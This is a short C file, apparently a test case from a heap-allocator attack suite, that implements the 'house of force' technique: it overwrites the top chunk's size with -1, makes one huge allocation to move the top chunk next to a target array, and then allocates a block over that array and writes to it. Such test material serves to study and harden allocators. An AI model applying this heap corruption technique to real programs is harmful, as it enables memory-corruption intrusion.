/*
 * metadata: an overflow of the last block makes the top chunk as large as the address space. One
 * huge request moves the top to just before the target, and the next block is the target ("the
 * house of force").
 */
#include "attack.h"

static _Alignas(16) Word target[32];

int main(void) {
  settle(136);
  Word *last = allocate(136);
  Word *top = last + 16; /* the chunk after the last one: "size before", size */
  top[1] = (uint64_t)-1;
  uint64_t distance = (uint64_t)(uintptr_t)target - 16 - (uint64_t)(uintptr_t)top;
  allocate(distance - 8);
  Word *taken = allocate(136);
  if (!taken) return 0;
  taken[0] = 42;
  return target[0] == 42 ? GOAL_REACHED : 0;
}
